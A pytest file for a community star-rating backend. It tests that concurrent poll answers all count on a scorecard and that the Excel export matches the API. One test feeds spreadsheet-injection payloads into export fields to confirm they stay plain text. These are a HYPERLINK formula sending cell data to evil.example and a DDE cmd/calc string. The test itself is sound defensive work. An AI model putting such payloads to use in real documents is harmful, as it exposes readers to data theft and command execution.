"""The star rating seen from outside: many poll answers hitting one scorecard at the same
moment over real HTTP, and the export.xlsx the street files, read back cell by cell."""

from __future__ import annotations

import io
import threading
import zipfile
from collections import Counter
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
import requests
import sqlalchemy as sa
from openpyxl import load_workbook

from backend.extensions import db
from backend.polls import service as polls
from backend.polls.models import Poll
from backend.polls.presets import PRESETS
from backend.rating import engine
from backend.rating.ledger import KIND_LABELS
from backend.rating.models import SOURCE_LABELS, Scorecard
from backend.rating.quotas import STAR_NAMES
from tests import test_rating
from tests.live import serve
from tests.test_rating import card_url, start

world = test_rating.world   # the same street, communities and people as the rating API tests

#: More than the mass poll's minimum sample (30), so S5 and R5 go from provisional to counted
#: in the middle of the burst.
N = 36


def _sheet(question_ids: dict[int, int], i: int) -> list[dict]:
    """Respondent i's answers to the mass preset's four rated questions (S5, S5, R5, O5).

    Over all N: question 1 has 27 of 36 in the top two levels, question 2 all 36, question 3
    24 of 36, question 4 all 36; the optional choice and text questions are left out."""
    return [{"question_id": question_ids[1], "value": 3 if i % 4 == 3 else 5},
            {"question_id": question_ids[2], "value": 4},
            {"question_id": question_ids[3], "value": 1 if i % 3 == 2 else 5},
            {"question_id": question_ids[4], "value": 5}]


def _criterion(card: dict, code: str) -> dict:
    return next(c for c in card["criteria"] if c["code"] == code)


@pytest.mark.slow
def test_simultaneous_poll_answers_all_count_on_the_scorecard(db_url, client, world):
    """N respondents with one-time codes answer at once through a threaded server. Each
    answer recomputes S5 and R5 under the scorecard lock before it commits, so none may be
    lost, the score events must form one unbroken chain, and a full recompute afterwards
    must find nothing to change."""
    orgs, _, headers = world
    period = start(client, world)
    url = card_url(period, orgs["a"])
    poll = client.post("/api/v1/polls", headers=headers["officer"], json={
        **PRESETS["mass"], "org_id": orgs["a"].id, "modes": ["code"],
        "opens_at": (datetime.now(UTC) - timedelta(hours=1)).isoformat(),
        "closes_at": (datetime.now(UTC) + timedelta(days=7)).isoformat()})
    assert poll.status_code == 201, poll.get_json()
    poll = poll.get_json()
    assert poll["period_id"] == period["id"]
    question_ids = {q["position"]: q["id"] for q in poll["questions"]}
    made = client.post(f"/api/v1/polls/{poll['id']}/codes", headers=headers["officer"], json={"count": N})
    assert made.status_code == 201, made.get_json()
    codes = [c["code"] for c in made.get_json()]
    before = client.get(url, headers=headers["sec_a"]).get_json()
    assert _criterion(before, "S5")["points"] == 0 and "暂无测评答卷" in _criterion(before, "S5")["explanation"]
    last_event = max((e["id"] for e in client.get(f"{url}/events", headers=headers["sec_a"]).get_json()), default=0)
    # Hand the connection back: the burst must not queue behind this thread's transaction.
    db.session.close()

    barrier, lock = threading.Barrier(N), threading.Lock()
    seen: list[tuple[int, str]] = []

    def answer(base_url: str, i: int) -> None:
        with requests.Session() as http:
            barrier.wait(timeout=30)
            response = http.post(f"{base_url}/api/v1/polls/{poll['id']}/responses", timeout=60,
                                 json={"code": codes[i], "answers": _sheet(question_ids, i)})
        body = response.json()
        with lock:
            seen.append((response.status_code, body.get("mode") or body["error"]["code"]))

    with serve(db_url) as (base_url, _):
        threads = [threading.Thread(target=answer, args=(base_url, i)) for i in range(N)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=60)
    assert Counter(seen) == Counter({(201, "code"): N})

    results = client.get(f"/api/v1/polls/{poll['id']}/results", headers=headers["sec_a"]).get_json()
    assert results["respondents"] == N and results["by_mode"]["code"] == N
    assert [q["distribution"] for q in results["questions"][:3]] == [
        {"5": 27, "4": 0, "3": 9, "2": 0, "1": 0}, {"5": 0, "4": 36, "3": 0, "2": 0, "1": 0},
        {"5": 24, "4": 0, "3": 0, "2": 0, "1": 12}]
    # All from one loopback address within minutes: the burst rule flags every answer, and a
    # flagged answer still counts until a street officer excludes it.
    assert results["flagged"] == N

    card = client.get(url, headers=headers["sec_a"]).get_json()
    s5, r5 = _criterion(card, "S5"), _criterion(card, "R5")
    # S5: (27/36 + 36/36) / 2 = 87.5 % → 5 × (0.875 − 0.60) / 0.35 = 3.93.
    assert (s5["points"], s5["provisional"]) == (3.93, None)
    assert [(q["count"], q["top_two"]) for q in s5["inputs"]["questions"]] == [(N, 27), (N, N)]
    assert s5["explanation"] == f"满意率 87.5%（{N} 份）→ 3.93/5 分"
    # R5 (worth 2): 24/36 = 66.7 % → 2 × (0.6667 − 0.60) / 0.35 = 0.38.
    assert (r5["points"], r5["provisional"]) == (0.38, None)
    assert r5["explanation"] == f"满意率 66.7%（{N} 份）→ 0.38/2 分"
    assert [(q["count"], q["top_two"]) for q in r5["inputs"]["questions"]] == [(N, 24)]
    assert card["total"] == round(sum(c["points"] for c in card["criteria"]), 2)
    assert card["standards"]["S"] == round(sum(c["points"] for c in card["criteria"] if c["standard"] == "S"), 2)

    events = client.get(f"{url}/events?after={last_event}&limit=500", headers=headers["sec_a"]).get_json()
    assert {e["criterion"] for e in events} == {"S5", "R5", "O5"}
    # Each event starts where the one before it ended, per criterion and for the total;
    # a lost update would show as a gap.
    running = before["total"]
    for event in events:
        assert event["total"] == round(running + event["new"] - event["old"], 2)
        running = event["total"]
    assert running == card["total"]
    # O5 (worth 3), fed by mass and party-member polls alike: all 36 in the top two → 3.
    o5 = _criterion(card, "O5")
    assert (o5["points"], o5["explanation"]) == (3, f"满意率 100.0%（{N} 份）→ 3/3 分")
    for row in (s5, r5, o5):
        chain = [e for e in events if e["criterion"] == row["code"]]
        assert chain[0]["old"] == 0 and chain[-1]["new"] == row["points"]
        assert all(later["old"] == earlier["new"] for earlier, later in zip(chain, chain[1:], strict=False))
    # S5 is worth at least 3.57 once 30 answers count, so it left 0 exactly once: when the
    # 30th answer turned the provisional value into points. Before that, answers moved only
    # the provisional value (events with old = new = 0, which the dashboard shows).
    s5_chain = [e for e in events if e["criterion"] == "S5"]
    assert sum(1 for e in s5_chain if e["old"] == 0 and e["new"] > 0) == 1
    assert any(e["old"] == e["new"] == 0 for e in s5_chain)

    db.session.remove()
    stored = db.session.scalar(sa.select(Scorecard).where(Scorecard.period_id == period["id"],
                                                          Scorecard.org_id == orgs["a"].id))
    rows = {c.code: (c.points, c.provisional, c.explanation) for c in stored.criteria}
    assert stored.total == sum((c.points for c in stored.criteria), Decimal(0))
    assert engine.recompute(stored) == []
    assert {c.code: (c.points, c.provisional, c.explanation) for c in stored.criteria} == rows
    answered = db.session.get(Poll, poll["id"])
    assert polls.stored_tallies(answered) == polls.recompute_tallies(answered)
    db.session.rollback()


def test_export_workbook_matches_the_api(client, world):
    """export.xlsx holds what the API shows: the summary per org, every criterion, the
    problem list and the ledger ending at the period's head hash. Only the street may take it."""
    orgs, _, headers = world
    period = start(client, world)
    pid = period["id"]
    a, b = card_url(period, orgs["a"]), card_url(period, orgs["b"])
    entered = [(a, "sec_a", "G1", 4.5, "四级架构健全，功能党小组待补"), (a, "sec_a", "G2", 3, "网格党支部已全覆盖"),
               (b, "sec_b", "G1", 2, "组织架构尚不完整")]
    for url, who, code, points, note in entered:
        put = client.put(f"{url}/criteria/{code}", headers=headers[who],
                         json={"points": points, "note": note, "evidence_url": "https://example.cn/g.pdf"})
        assert put.status_code == 200, put.get_json()
    problem = {"problem": "功能型党小组未建立", "measure": "按楼栋建立功能型党小组", "owner": "李红梅",
               "deadline": "2027-03-31", "standard_code": "G"}
    added = client.post(f"{a}/problems", headers=headers["sec_a"], json=problem)
    assert added.status_code == 201, added.get_json()
    # In review the street scores too, so the workbook holds entries by both.
    moved = client.post(f"/api/v1/periods/{pid}/advance", headers=headers["officer"],
                        json={"from": "self_evaluation", "to": "review"})
    assert moved.status_code == 200, moved.get_json()
    put = client.put(f"{b}/criteria/T1", headers=headers["officer"], json={"points": 3.5, "note": "复核评分"})
    assert put.status_code == 200, put.get_json()
    entered.append((b, "officer", "T1", 3.5, "复核评分"))

    assert client.get(f"/api/v1/periods/{pid}/export.xlsx", headers=headers["sec_a"]).status_code == 403
    exported = client.get(f"/api/v1/periods/{pid}/export.xlsx", headers=headers["officer"])
    assert exported.status_code == 200
    book = load_workbook(io.BytesIO(exported.data))
    assert book.sheetnames == ["汇总", "评分明细", "组织生活记录", "问题清单", "台账"]

    rubric = client.get("/api/v1/rubrics/wuhua-2019", headers=headers["officer"]).get_json()
    standards = {s["code"]: s["title"] for s in rubric["standards"]}
    summary = list(book["汇总"].iter_rows(values_only=True))
    assert list(summary[0]) == ["组织", "总分", *standards.values(), "星级", "受名额限制", "考核加分", "自我定级",
                                "初评档次", "初评意见", "名额例外"]
    rows = client.get(f"/api/v1/periods/{pid}/scorecards", headers=headers["officer"]).get_json()
    assert len(summary) == 1 + len(rows)
    # Same order as the API: best total first.
    for line, row in zip(summary[1:], rows, strict=True):
        name, total, *values, stars, capped, bonus, claimed, proposed, opinion, exception = line
        assert (name, total) == (row["org_name"], row["total"])
        assert values == [row["standards"][code] for code in standards]
        assert stars == STAR_NAMES[row["stars"]] and not capped and bonus == row["bonus"]
        assert claimed is proposed is opinion is exception is None

    detail = list(book["评分明细"].iter_rows(values_only=True))
    assert list(detail[0]) == ["组织", "标准", "项目", "内容", "来源", "得分", "满分", "说明", "备注", "佐证",
                               "计算得分", "街道核定", "核定理由"]
    cards = {orgs[k].name: client.get(url, headers=headers["officer"]).get_json() for k, url in (("a", a), ("b", b))}
    by_key = {(line[0], line[2]): line for line in detail[1:]}
    assert len(by_key) == len(detail) - 1 == sum(len(card["criteria"]) for card in cards.values())
    for name, card in cards.items():
        for criterion in card["criteria"]:
            line = by_key[(name, criterion["code"])]
            assert line[1] == standards[criterion["standard"]] and line[4] == SOURCE_LABELS[criterion["source"]]
            assert (line[5], line[6], line[7]) == (criterion["points"], criterion["max_points"],
                                                   criterion["explanation"])
    names = {a: orgs["a"].name, b: orgs["b"].name}
    for url, _, code, points, note in entered:
        line = by_key[(names[url], code)]
        assert (line[5], line[8]) == (points, note)

    problems = list(book["问题清单"].iter_rows(values_only=True))
    assert list(problems[0]) == ["组织", "标准", "问题", "整改措施", "责任人", "完成时限", "状态"]
    assert len(problems) == 2
    org, standard, text, measure, owner, deadline, status = problems[1]
    assert (org, standard, text, measure, owner, status) == (orgs["a"].name, standards["G"], problem["problem"],
                                                             problem["measure"], problem["owner"], "未整改")
    # Excel has no date type: openpyxl reads the cell back as a datetime at midnight.
    assert deadline.date() == date(2027, 3, 31)

    ledger = list(book["台账"].iter_rows(values_only=True))
    assert list(ledger[0]) == ["序号", "时间", "类型", "组织", "评分项", "原分", "新分", "原因或意见", "操作人", "详情",
                               "校验码"]
    entries = client.get(f"/api/v1/periods/{pid}/ledger", headers=headers["officer"]).get_json()
    listed = [line for line in ledger[1:] if isinstance(line[0], int)]
    assert [(line[0], line[2], line[10]) for line in listed] == [(e["seq"], KIND_LABELS[e["kind"]], e["hash"])
                                                                 for e in entries]
    head = client.get(f"/api/v1/periods/{pid}", headers=headers["officer"]).get_json()["ledger_head"]
    verify = client.get(f"/api/v1/periods/{pid}/ledger/verify", headers=headers["officer"]).get_json()
    assert verify["ok"] and verify["head"] == head == entries[-1]["hash"]
    assert ledger[-1][:2] == ("台账完整性", "已校验，未被改动") and ledger[-1][4:6] == ("末条校验码", head)


def test_export_writes_text_as_text_never_as_a_formula(client, world):
    """A problem or note typed as =HYPERLINK(…), +1, -1 or @SUM(…) must not become a live
    formula in the street's spreadsheet (the reader's Excel would run it)."""
    orgs, _, headers = world
    period = start(client, world)
    a = card_url(period, orgs["a"])
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
    put = client.put(f"{a}/criteria/G1", headers=headers["sec_a"], json={"points": 4, "note": hostile[0]})
    assert put.status_code == 200, put.get_json()
    for text in hostile:
        added = client.post(f"{a}/problems", headers=headers["sec_a"], json={
            "problem": text, "measure": text, "owner": "李红梅", "deadline": "2027-03-31", "standard_code": "G"})
        assert added.status_code == 201, added.get_json()
    exported = client.get(f"/api/v1/periods/{period['id']}/export.xlsx", headers=headers["officer"])
    book = load_workbook(io.BytesIO(exported.data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value in hostile]
    assert {c.value for c in cells} == set(hostile) and len(cells) >= 2 * len(hostile) + 1
    assert all(c.data_type == "s" for c in cells)
    raw = zipfile.ZipFile(io.BytesIO(exported.data))
    assert not any("<f>" in raw.read(name).decode() for name in raw.namelist() if name.startswith("xl/worksheets/"))
